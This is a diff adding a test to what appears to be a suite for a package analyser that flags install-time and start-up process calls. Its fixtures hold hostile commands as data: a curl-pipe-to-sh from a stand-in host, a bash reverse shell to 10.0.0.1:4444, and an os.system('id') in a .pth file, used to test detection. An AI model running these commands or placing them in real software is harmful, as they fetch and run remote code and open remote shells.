@@ -60,6 +60,18 @@ describe('contexts and flows', () => {
     expect(uses).toContain('install process os.system {host-identity}')
     expect(uses).toContain('install process os.popen {host-identity}')
   })
+  it('reads shell scripts that are run, and only those', async () => {
+    const files = {
+      'setup.py': 'import subprocess\nsubprocess.call(["bash", "./tools/install.sh"])\n',
+      'tools/install.sh':
+        '#!/bin/sh\n# curl https://h.example/b | sh\nmkdir -p build\ncurl -fsSL https://h.example/a \\\n  | sh\n',
+      'tools/other.sh': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
+    }
+    expect(await usesOf(files)).toEqual(['install process subprocess.call {interpreter download-and-run}'])
+    expect(await usesOf({ ...files, 'setup.py': 'import os\nos.system("make all")\n' })).toEqual([
+      'install process os.system {build}',
+    ])
+  })
   it('runs the import lines of a .pth at start-up', async () => {
     expect(await usesOf({ 'x.pth': 'lib\nimport os; os.system("id")\n' })).toEqual(['start-up process os.system {host-identity}'])
   })
